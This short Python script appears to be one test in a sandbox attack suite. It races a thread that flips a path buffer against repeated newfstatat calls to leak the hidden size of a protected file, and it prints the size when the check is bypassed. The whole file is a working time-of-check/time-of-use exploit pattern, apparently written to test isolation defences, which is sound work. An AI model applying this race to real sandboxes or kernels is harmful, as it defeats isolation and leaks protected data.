# SPDX-License-Identifier: Apache-2.0
# attack: another thread flips the path of stat; the random size of a file is the prize
# class: race
# wins: leak
# needs: race
from kit import *

buf, at, bits = twin_path(b'/sized.bin')
st = stat_buf()
tried()
f = Flipper(at, bits)


def one(i):
    if sc('newfstatat', AT_FDCWD, buf, st, 0) == 0:
        size = struct.unpack_from('<q', st, 48)[0]
        if size != 10:
            say('SIZE=%d' % size)
            return True


rounds(one)
f.end()
